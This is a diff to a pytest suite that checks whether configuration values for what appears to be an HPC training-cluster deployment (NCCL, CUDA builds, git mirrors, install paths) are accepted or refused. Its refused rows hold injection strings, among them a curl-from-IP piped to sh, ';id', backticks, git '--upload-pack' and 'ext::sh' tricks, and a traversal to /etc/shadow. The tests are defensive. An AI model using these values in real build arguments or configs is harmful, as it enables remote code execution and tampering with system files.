@@ -61,6 +61,24 @@ FORMATS = {
     "nccl_conf_file": ([("/etc/nccl/other.txt", "must name an NCCL configuration file")], ["/etc/nccl.conf"]),
     "xml_file": ([("/etc/nccl/topo", "must name an .xml file")], ["/etc/nccl/topology.xml"]),
     "bool": ([("yes", "must be true or false")], [True, False]),
+    "build_arg": ([("--with-knem=$(curl -s http://198.51.100.7/x|sh)", "metacharacter"), ("CFLAGS=-O2;id", "';'"),
+                   ("--prefix=`id`", "'`'"), ("X='a'", "metacharacter")],
+                  ["--enable-mt", "CFLAGS=-O2 -g", "--with-cuda-libdir=/usr/local/cuda/lib64/stubs", "CXX=g++-11"]),
+    "release": ([("v1.18.1", "must match"), ("1.18", "must match"), ("latest", "must match")], ["1.18.1", "4.1.4"]),
+    "version": ([("newest", "must match"), ("4.2.x", "must match")], ["4.2.2", "22.05", "5"]),
+    "cuda_arch": ([("90 -Xcompiler -fplugin=/tmp/x.so", "contains a space"), ("hopper", "must match")],
+                  ["9.0", "90", "sm_80", "compute_90a", "10.0"]),
+    "host_pattern": ([("gpu;id", "must match"), ("a b", "contains a space")], ["slurm_compute", "slurm_compute:&gpu", "all:!login"]),
+    "owned_path": ([("/etc/passwd", "would replace a system file"), ("/usr/bin/torchrun", "would replace"),
+                    ("/etc/profile.d/launch.sh", "would replace"), ("/etc/t/../shadow", "'..'"), ("t/x", "absolute path")],
+                   ["/usr/local/bin/trainstack-torchrun", "/etc/trainstack/pytorch-launch.json",
+                    "/usr/local/share/trainstack/pytorch", "/opt/ml/bin/torchrun-site"]),
+    "git_url": ([("--upload-pack=id", "must not begin with '-'"), ("ext::sh%20-c%20id", "transport helper"),
+                 ("https://x/a b.git", "contains a space"), ("ftp://x/y.git", "must be an https, ssh, git or file URL")],
+                ["https://github.com/NVIDIA/nccl-tests.git", "git@git.example.org:hpc/nccl-tests.git",
+                 "../shared/mirrors/nccl-tests/nccl-tests.bundle", "file:///srv/mirror/nccl-tests.git"]),
+    "controller_path": ([("/srv/cache;rm", "';'"), ("relative/cache", "absolute path"), ("~other/x", "absolute path")],
+                        ["~/.cache/trainstack/artifacts", "/var/tmp/trainstack-cache"]),
 }
 # Extra rows for formats whose value may also be empty.
 EMPTY_OK = ""
@@ -76,6 +94,10 @@ DECLARED = {name: fmt for path in sorted(glob.glob(os.path.join(ROOT, "roles", "
 STRING_VARIABLES = sorted((name, fmt) for name, fmt in DECLARED.items() if isinstance(fmt, str))
 RANGE_VARIABLES = sorted((name, fmt) for name, fmt in DECLARED.items()
                          if isinstance(fmt, dict) and set(fmt) <= {"min", "max"} and fmt)
+
+
+# {words: [...], format: fmt}: each word is accepted, otherwise the format's rows apply.
+WORD_VARIABLES = sorted((name, fmt) for name, fmt in DECLARED.items() if isinstance(fmt, dict) and "words" in fmt)
 
 
 def _base(fmt):
@@ -98,8 +120,20 @@ def _accepted_cases():
             yield pytest.param(name, fmt, value, id="%s-%d" % (name, index))
 
 
+@pytest.mark.parametrize(("name", "spec"), WORD_VARIABLES, ids=[pair[0] for pair in WORD_VARIABLES])
+def test_word_or_format_variables(name, spec):
+    refused, accepted = FORMATS[spec["format"]]
+    for value in list(spec["words"]) + list(accepted):
+        assert conf_value_problems({name: value}, {name: spec}) == [], value
+    for value, fragment in refused + EVERY_STRING:
+        found = conf_value_problems({name: value}, {name: spec})
+        assert len(found) == 1 and found[0].startswith(name + " ") and fragment in found[0], (value, found)
+        # null among the words is written as YAML writes it.
+        assert found[0].endswith("(or one of: %s)" % ", ".join("null" if word is None else repr(word) for word in spec["words"])), found
+
+
 def test_every_format_in_use_has_rows():
-    used = {_base(pair[1]) for pair in STRING_VARIABLES}
+    used = {_base(pair[1]) for pair in STRING_VARIABLES} | {pair[1]["format"] for pair in WORD_VARIABLES}
     assert sorted(used - set(FORMATS)) == []
 
 
